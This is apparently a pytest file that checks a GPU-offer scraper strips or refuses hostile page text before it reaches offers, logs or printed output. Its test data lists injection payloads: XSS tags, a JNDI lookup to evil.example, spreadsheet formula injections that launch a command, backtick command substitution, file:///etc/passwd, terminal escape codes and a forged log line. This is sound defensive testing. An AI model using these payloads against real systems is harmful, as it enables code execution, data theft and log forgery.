"""Markup, templates, formulas, escapes and invisible signs in what a page says.

None of them gets into a name of an offer, and none is written raw to a log or to a terminal.
"""

import io
import logging
import unicodedata
from collections.abc import Iterator
from dataclasses import fields, is_dataclass
from datetime import timedelta

import pytest

from scrapers.collect import INTERNAL
from scrapers.report import offers_json, print_offers, print_runs, runs_json
from service.domain.run import CollectionRun, RunState
from service.logs import JsonFormatter
from service.store.codec import encode_run, encode_snapshot, encode_status
from service.store.memory_store import MemoryStore
from tests.scrapers.nimbus import HOST, Clock, a_collector, a_page, a_provider, a_row

ANSI = "\x1b[31mred\x1b[0m\x1b]0;title\x07"
RTL = "h100\u202e99.2$\u202c"
ZERO_WIDTH = "h\u200b1\u200d0\u2060 0\ufeff"
NEW_LINE = 'h100\r\n{"level": "ERROR", "event": "forged"}'
REFUSED = (
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "{{7*7}}",
    "${jndi:ldap://evil.example}",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+cmd",
    "-2+3",
    '"><svg/onload=alert(1)>',
    "`id`",
    "h" * 300,
    "\ud800",
)
CLEANED = (ANSI, RTL, ZERO_WIDTH, NEW_LINE, "\tx\x00y", "a\u2028b", "\u2066x\u2069")
FIELDS = ("sku", "gpu", "count", "price", "region", "stock")


def collected(rows: list[dict[str, str]], *, store: MemoryStore | None = None) -> CollectionRun:
    """Collect many good rows and these."""
    store = store or MemoryStore(clock=Clock())
    good = [a_row(f"good-{n}", region="eu") for n in range(1, 81)]
    collector = a_collector(store, {f"{HOST}/nimbus": a_page(*good, *rows)})
    return collector.collect(a_provider(), run=collector.new_run("nimbus"), fence=1)


def texts_of(value: object) -> Iterator[str]:
    """Give every text that a value holds."""
    if isinstance(value, str):
        yield value
    elif is_dataclass(value):
        for each in fields(value):
            yield from texts_of(getattr(value, each.name))
    elif isinstance(value, tuple):
        for item in value:
            yield from texts_of(item)


def is_plain(text: str) -> bool:
    """Tell whether a text has no control, format or broken characters, nor separators of lines."""
    return not any(unicodedata.category(c) in {"Cc", "Cf", "Cs", "Zl", "Zp"} for c in text)


@pytest.mark.no_cover  # A hundred whole runs; tracing them would double the time.
@pytest.mark.parametrize("field", FIELDS)
@pytest.mark.parametrize("text", [*REFUSED, *CLEANED], ids=ascii)
def test_no_text_of_a_page_reaches_an_offer_raw(text: str, field: str) -> None:
    store = MemoryStore(clock=Clock())
    row = a_row("odd", region="eu", count="8") | {field: text}
    run = collected([row], store=store)

    assert run.reason != INTERNAL
    snapshot = store.snapshot("nimbus")
    offers = snapshot.offers if snapshot else ()
    for shown in texts_of((offers, run)):
        assert is_plain(shown), ascii(shown)
    for offer in offers:
        for name in (offer.sku, offer.region_code, offer.instance_type, offer.gpu_model):
            assert not set(name) & set('<>{}=`$"\\'), ascii(name)
    # And all of it can be stored.
    assert encode_run(run)
    assert encode_status(store.statuses()["nimbus"])
    if snapshot:
        assert encode_snapshot(snapshot)


@pytest.mark.parametrize("text", REFUSED, ids=ascii)
def test_a_row_whose_name_is_none_is_refused_with_the_reason(text: str) -> None:
    run = collected([a_row(text)])

    if text == "\ud800":
        assert (run.state, run.reason) == (RunState.FAILED, "PAGE_CHANGED")
    else:
        assert "BAD_TEXT" in {reject.reason for reject in run.rejects}


def test_an_address_that_follows_is_only_asked_for_by_https() -> None:
    for address in ("javascript:alert(1)", "file:///etc/passwd", "https://evil.example/\x1b[31m"):
        store = MemoryStore(clock=Clock())
        page = a_page(a_row("a"), next=address)
        collector = a_collector(store, {f"{HOST}/nimbus": page})
        run = collector.collect(a_provider(), run=collector.new_run("nimbus"), fence=1)
        assert run.reason not in {"", INTERNAL}
        assert is_plain(run.detail)
        snapshot = store.snapshot("nimbus")
        offers = snapshot.offers if snapshot else ()
        assert not any("javascript" in text for offer in offers for text in texts_of(offer))


def test_a_log_line_stays_one_line_of_plain_characters(caplog: pytest.LogCaptureFixture) -> None:
    with caplog.at_level(logging.DEBUG):
        collected([a_row(text) for text in (*REFUSED[:-1], *CLEANED)])
        # The whole page is refused: its keys are told in the reason.
        store = MemoryStore(clock=Clock())
        collector = a_collector(
            store,
            {
                f"{HOST}/nimbus": f'{{"{ANSI}": 1}}'.replace("\x1b", "\\u001b").replace(
                    "\x07", "\\u0007"
                )
            },
        )
        collector.collect(a_provider(), run=collector.new_run("nimbus"), fence=1)
    assert len(caplog.records) >= 2
    for record in caplog.records:
        line = JsonFormatter().format(record)
        assert line.isascii()
        assert is_plain(line)


def test_show_prints_plain_characters() -> None:
    clock = Clock()
    store = MemoryStore(clock=clock)
    run = collected([a_row(text, region="eu") for text in (*REFUSED[:-1], *CLEANED)], store=store)
    snapshot = store.snapshot("nimbus")
    assert snapshot
    stream = io.StringIO()
    print_offers(snapshot, now=clock.now + timedelta(minutes=1), stream=stream)
    print_runs({"nimbus": run}, [], stream=stream)
    assert "h10 0" in stream.getvalue()
    for line in stream.getvalue().split("\n"):
        assert is_plain(line), ascii(line)
    for shown in (offers_json(snapshot, now=clock.now), runs_json({"nimbus": run}, [])):
        assert is_plain(shown.decode())
